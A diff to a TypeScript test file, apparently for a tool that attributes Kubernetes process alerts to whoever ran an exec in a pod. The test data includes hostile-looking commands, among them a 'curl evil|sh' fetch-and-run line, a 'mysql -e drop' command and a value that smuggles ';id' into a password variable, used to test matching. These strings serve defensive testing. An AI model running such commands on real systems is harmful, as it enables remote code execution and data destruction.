@@ -43,6 +43,55 @@ describe.each(['files', 'service'] as const)('a process that started in a pod, o
     expect(only(answer)).toMatchObject({ inLog: { result } });
   });
 
+  it.each<[string, string]>([
+    ['sh -c id', 'sh'],
+    ['sh', 'sh -c id'],
+    ['sh -c env PGPASSWORD=hunter2 psql', 'sh -c curl evil|sh'],
+    ['sh -c env PGPASSWORD=hunter2 psql', 'sh -c env PGPASSWORD=x;id psql'],
+    ['mysql --password hunter2 shop', 'mysql -e drop'],
+  ])('names nobody by an exec of %s, if the process is %s', async (command, started) => {
+    const world = worldOf([{ ...EXEC, command }], GRANTS);
+    for (const form of ['falco', 'line'] as const) {
+      const answer = await ask(world, PROCESS_ALERTS[form]({ ...EXEC, command: started, after: 300 }));
+      expect(namedIn(answer)).toEqual([]);
+      expect(only(answer)).toMatchObject({ inLog: { result: 'similar' } });
+    }
+  });
+
+  it('names nobody by an exec of a whole command, if the finding states the program alone', async () => {
+    const world = worldOf([{ ...EXEC, command: 'sh -c id' }], GRANTS);
+    const answer = await ask(world, PROCESS_ALERTS.guardduty({ ...EXEC, after: 300 }));
+    expect(namedIn(answer)).toEqual([]);
+  });
+
+  it('leads to an exec whose secrets the log masked', async () => {
+    const command = 'sh -c env PGPASSWORD=hunter2 psql';
+    const answer = await ask(
+      worldOf([{ ...EXEC, command }], GRANTS),
+      PROCESS_ALERTS.falco({ ...EXEC, command, after: 300 }),
+    );
+    expect(namedIn(answer)).toEqual(['bob']);
+  });
+
+  it.each(['falco', 'line'] as const)('names nobody if another process of the pod started it: %s', async (form) => {
+    for (const [parent, named] of [
+      ['runc:[1:CHILD]', ['bob']],
+      ['containerd-shim', ['bob']],
+      ['bash', []],
+    ] as const) {
+      const answer = await ask(worldOf([EXEC], GRANTS), PROCESS_ALERTS[form]({ ...EXEC, parent, after: 300 }));
+      expect(namedIn(answer)).toEqual(named);
+    }
+  });
+
+  it.each(['sh ab=x', 'sh )x', 'sh terminal=1', 'sh parent=runc'])(
+    'is not read in parts, whatever the file that the shell runs is called: %s',
+    async (command) => {
+      const answer = await ask(worldOf([EXEC], GRANTS), PROCESS_ALERTS.line({ ...EXEC, command, after: 300 }));
+      expect(namedIn(answer)).toEqual([]);
+    },
+  );
+
   it('names nobody if two people ran the same command in the pod', async () => {
     const both = [EXEC, { ...EXEC, key: MALLORYS, after: -500 }];
     const answer = await ask(worldOf(both, GRANTS), PROCESS_ALERTS.falco({ ...EXEC, after: 300 }));
@@ -67,9 +116,8 @@ describe('an alert about a process names nobody but who alone can have started i
         const named = namedIn(await PLACES[place](worldOf(execs, GRANTS), PROCESS_ALERTS[form](alert)));
         const ofPod = execs.filter(({ pod, namespace }) => pod === alert.pod && namespace === alert.namespace);
         const near = ofPod.filter(({ after }) => Math.abs(after - alert.after) <= 2_000);
-        const isSame = ({ command }: Exec) =>
-          form === 'guardduty' ? command.split(' ')[0] === alert.command.split(' ')[0] : command === alert.command;
-        const same = near.filter(isSame);
+        const stated = form === 'guardduty' ? alert.command.split(' ')[0] : alert.command;
+        const same = near.filter(({ command }) => command === stated);
         const owners = new Set(same.map(({ key }) => ({ [BOBS]: 'bob', [MALLORYS]: 'mallory' })[key]));
         const [owner, ...others] = owners;
         const isSure = others.length === 0 && owner !== undefined && same.some(({ after }) => after <= alert.after);
